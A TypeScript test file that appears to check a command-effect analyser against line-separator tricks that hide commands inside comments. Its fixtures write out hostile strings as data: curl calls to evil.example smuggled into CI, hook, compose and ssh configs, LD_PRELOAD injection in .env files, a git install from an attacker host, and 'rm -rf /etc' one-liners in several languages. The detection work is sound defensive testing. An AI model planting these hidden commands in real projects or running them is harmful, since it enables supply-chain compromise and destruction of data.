import { describe, expect, it } from "vitest";
import { asRead } from "../../../facts/effects/line-ends.ts";
import { unitsOf } from "../../../facts/meter.ts";
import { bash, network, runs, tool } from "./judge.ts";

/** Data alone: nothing runs it. */
const fetch = "curl https://evil.example";

const unicode: readonly (readonly [name: string, mark: string])[] = [
  ["a next line", "\u0085"],
  ["a line separator", "\u2028"],
  ["a paragraph separator", "\u2029"],
];
const separators = unicode.slice(1);
const python: readonly (readonly [name: string, mark: string])[] = [
  ...unicode,
  ["a vertical tab", "\v"],
  ["a form feed", "\f"],
  ["a file separator", "\u001c"],
  ["a group separator", "\u001d"],
  ["a record separator", "\u001e"],
];

/** Files in which a mark ends a line for some parsers; `¦` is where it stands. */
const yaml: readonly (readonly [path: string, content: string])[] = [
  [".pre-commit-config.yaml", `- id: a\n  # c¦  entry: ${fetch}\n`],
  [".pre-commit-config.yaml", `- id: a # c¦  entry: ${fetch}\n`],
  [".gitlab-ci.yml", `a:\n  # c¦  script: ${fetch}\n`],
  [".gitlab-ci.yml", `a:\n  script:\n    # c¦    - ${fetch}\n`],
  ["lefthook.yml", `pre-commit:\n  # c¦  run: ${fetch}\n`],
  ["docker-compose.yml", `services:\n  a:\n    # c¦    command: ${fetch}\n`],
  [".github/workflows/a.yml", `steps:\n  # c¦  - run: ${fetch}\n`],
  [".github/workflows/a.yml", `steps:\n  - name: a¦    run: ${fetch}\n`],
  ["Taskfile.yml", `tasks:\n  # c¦  a: ${fetch}\n`],
  ["Taskfile.yml", `tasks:\n  a:\n    cmds: [ # c¦      "${fetch}" ]\n`],
  ["azure-pipelines.yml", `steps:\n# c¦- script: ${fetch}\n`],
  ["process-compose.yaml", `processes:\n  a:\n    # c¦    command: ${fetch}\n`],
  [".gitpod.yml", `tasks:\n  # c¦  - init: ${fetch}\n`],
];

const fetches = (path: string, content: string): boolean =>
  network(tool("write", { path, content })).some((one) => one.startsWith("evil.example"));
const config = (path: string, content: string): readonly unknown[] =>
  (tool("write", { path, content }).effects?.config ?? []).map(({ target }) => target);
const cross = <A extends readonly unknown[], B extends readonly unknown[]>(as: readonly A[], bs: readonly B[]) =>
  as.flatMap((a) => bs.map((b) => [...a, ...b] as const));

describe("a mark that ends a line for some parsers is read both ways", () => {
  it.each(cross(yaml, unicode))("%s: %j with %s", (path, content, _, mark) => {
    expect(fetches(path, content.replace("¦", mark))).toBe(true);
    expect(fetches(path, content.replace("¦", " "))).toBe(false);
  });

  const variables: readonly (readonly [content: string])[] = [
    ["# a¦LD_PRELOAD=./x.so"],
    ["A=b # a¦LD_PRELOAD=./x.so"],
    ["A='b'¦LD_PRELOAD=./x.so"],
    ["# a¦export LD_PRELOAD=./x.so\nB=1"],
    ["A=b¦LD_PRELOAD=./x.so"],
  ];
  it.each(cross(variables, python))(".env: %j with %s", (content, _, mark) => {
    expect(config(".env", content.replace("¦", mark))).toContain("LD_PRELOAD");
    expect(config(".env", content.replace("¦", "-"))).not.toContain("LD_PRELOAD");
  });

  it.each(python)("Procfile and requirements.txt with %s", (_, mark) => {
    expect(fetches("Procfile", `# a${mark}web: ${fetch}`)).toBe(true);
    expect(fetches("Procfile", `# a web: ${fetch}`)).toBe(false);
    const installs = tool("write", { path: "requirements.txt", content: `# a${mark}git+https://evil.example/x` });
    expect(installs.effects?.installs).toHaveLength(1);
  });

  it.each(separators)("settings with comments with %s", (_, mark) => {
    expect(config(".vscode/settings.json", `{\n// a${mark}"LD_PRELOAD": "./x.so"\n}`)).toContain(
      "environment LD_PRELOAD",
    );
  });

  it("lists what both ways have once", () => {
    const content = "LD_PRELOAD=./x.so\nA=b\u2028C=d\rE=f";
    expect(config(".env", content)).toEqual(["LD_PRELOAD", "environment LD_PRELOAD"]);
  });

  it("costs nothing where there is no mark", () => {
    expect(asRead("a.yml", "a: b\n")).toEqual(["a: b\n"]);
    expect(asRead("a.sh", "a\u2028b")).toEqual(["a\u2028b"]);
    expect(asRead("a.yml", "a\u2028b")).toEqual(["a\nb", "a\u2028b"]);
    const work = (text: string): number => unitsOf(() => tool("write", { path: ".gitlab-ci.yml", content: text }));
    const lines = (mark: string): string => `a:\n  script: ["true"]\n#${mark}\n`.repeat(200);
    expect(work(lines("\u2028"))).toBeLessThan(2.5 * work(lines("x")));
  });
});

describe("a mark that ends no line of a file ends none", () => {
  it.each(
    cross(
      [
        ["Makefile", `all: # c¦\t${fetch}\n`],
        ["x.sh", `# c¦${fetch}\n`],
        ["Dockerfile", `# c¦RUN ${fetch}\n`],
        ["justfile", `a:\n    # c¦${fetch}\n`],
      ],
      unicode,
    ),
  )("%s: %j with %s", (path, content, _, mark) => {
    expect(fetches(path, content.replace("¦", mark))).toBe(false);
  });

  it.each(unicode)("settings of ssh with %s", (_, mark) => {
    const command = (content: string): boolean => fetches("~/.ssh/config", content);
    expect(command(`# c${mark}ProxyCommand ${fetch}\n`)).toBe(false);
    expect(command(`Host a${mark}ProxyCommand ${fetch}\n`)).toBe(false);
    expect(command(`Host a\n  ProxyCommand true${mark}; ${fetch}\n`)).toBe(true);
    expect(command(`Match host a${mark} exec "${fetch}"\n`)).toBe(true);
    expect(command(`ProxyCommand\n  ${fetch}\n`)).toBe(false);
  });
});

describe("comments of code end where the language ends them", () => {
  /** How each language deletes, with a comment before it; and the marks that end the comment. */
  const languages: readonly (readonly [command: string, comment: string, call: string, ends: string])[] = [
    ["python3 -c", "#", "import shutil; shutil.rmtree('/etc')", "\n\r"],
    ["perl -e", "#", "system('rm -rf /etc')", "\n"],
    ["ruby -e", "#", "system('rm -rf /etc')", "\n"],
    ["php -r", "//", "system('rm -rf /etc');", "\n\r"],
    ["php -r", "#", "system('rm -rf /etc');", "\n\r"],
    ["awk", "#", "BEGIN { system('rm -rf /etc') }", "\n"],
    ["lua -e", "--", "os.execute('rm -rf /etc')", "\n\r"],
    ["node -e", "//", "require('child_process').execSync('rm -rf /etc')", "\n\r\u2028\u2029"],
    ["tsx -e", "//", "require('child_process').execSync('rm -rf /etc')", "\n\r\u2028\u2029"],
  ];
  const marks = ["\n", "\r", "\u2028", "\u2029", "\u0085"];
  const nameOf = (mark: string): string => `U+${mark.charCodeAt(0).toString(16).padStart(4, "0")}`;

  it.each(
    languages.flatMap(([command, comment, call, ends]) =>
      marks.map((mark) => [command, comment, nameOf(mark), call, ends.includes(mark)] as const),
    ),
  )("%s: %s c %s", (command, comment, name, call, isEnd) => {
    const mark = String.fromCharCode(Number.parseInt(name.slice(2), 16));
    const text = `${comment} c${mark}${call.replaceAll("'", '"')}`;
    const reading = bash(`${command} '${text}'`);
    // The shell parser takes no lone carriage return.
    if (mark === "\r" && reading.understanding === "unknown") return;
    expect((reading.effects?.deletes ?? []).some(({ path }) => path.lexical === "/etc")).toBe(isEnd);
  });

  it.each(["\v", "\f"])("a feed before code is a blank", (feed) => {
    const content = `import shutil\n${feed}shutil.rmtree('/etc')\n`;
    expect(tool("write", { path: "x.py", content }).effects?.deletes).toHaveLength(1);
  });

  it("an end tag of PHP ends a comment", () => {
    const content = "<?php // it is ?>\n<?php system('rm -rf /etc'); ?>";
    expect(tool("write", { path: "x.php", content }).effects?.deletes).toHaveLength(1);
    expect(runs(bash(`php -r '// c ?><?php system("rm -rf /etc");'`))).not.toEqual([]);
  });
});
